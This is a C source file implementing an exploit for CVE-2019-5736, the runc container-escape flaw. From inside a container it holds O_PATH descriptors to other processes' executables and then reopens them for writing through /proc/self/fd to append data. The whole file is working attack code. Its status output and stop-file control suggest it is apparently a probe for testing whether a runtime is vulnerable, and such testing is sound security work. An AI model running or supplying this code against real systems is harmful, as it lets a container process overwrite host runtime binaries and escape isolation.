/*
 * exewatch STOPFILE: the CVE-2019-5736 attacker, from inside a container.
 * Until STOPFILE exists (60 s at most) it opens /proc/PID/exe of every
 * other process whose program is neither busybox nor itself and keeps an
 * O_PATH descriptor ("held PID TARGET"; a readable one would deny writes
 * on recent kernels). Then, those processes being gone, it reopens each
 * kept descriptor for writing through /proc/self/fd/N and appends to it
 * ("WROTE TARGET" on success, "refused TARGET: ERROR" otherwise).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 16

int main(int argc, char **argv)
{
	int held[MAX_HELD], n = 0, i;
	char self[4096] = "", name[300], target[4096];
	time_t end = time(NULL) + 60;

	if (argc < 2)
		return 2;

	if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
		return 2;
	while (time(NULL) < end && access(argv[1], F_OK) != 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 2;
		while ((e = readdir(d)) && n < MAX_HELD) {
			ssize_t len;
			int fd;

			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(name, sizeof name, "/proc/%s/exe", e->d_name);
			len = readlink(name, target, sizeof target - 1);
			if (len <= 0)
				continue;
			target[len] = 0;
			if (!strcmp(target, self) || strstr(target, "busybox"))
				continue;
			fd = open(name, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			held[n++] = fd;
			printf("held %s %s\n", e->d_name, target);
			fflush(stdout);
		}
		closedir(d);
	}
	for (i = 0; i < n; i++) {
		int fd;

		snprintf(name, sizeof name, "/proc/self/fd/%d", held[i]);
		if (readlink(name, target, sizeof target - 1) < 0)
			strcpy(target, "?");
		else
			target[strcspn(target, "\n")] = 0;
		fd = open(name, O_WRONLY | O_APPEND);
		if (fd >= 0 && write(fd, "pwned\n", 6) == 6)
			printf("WROTE %s\n", target);
		else
			printf("refused %s: %s\n", target, strerror(errno));
	}
	return 0;
}
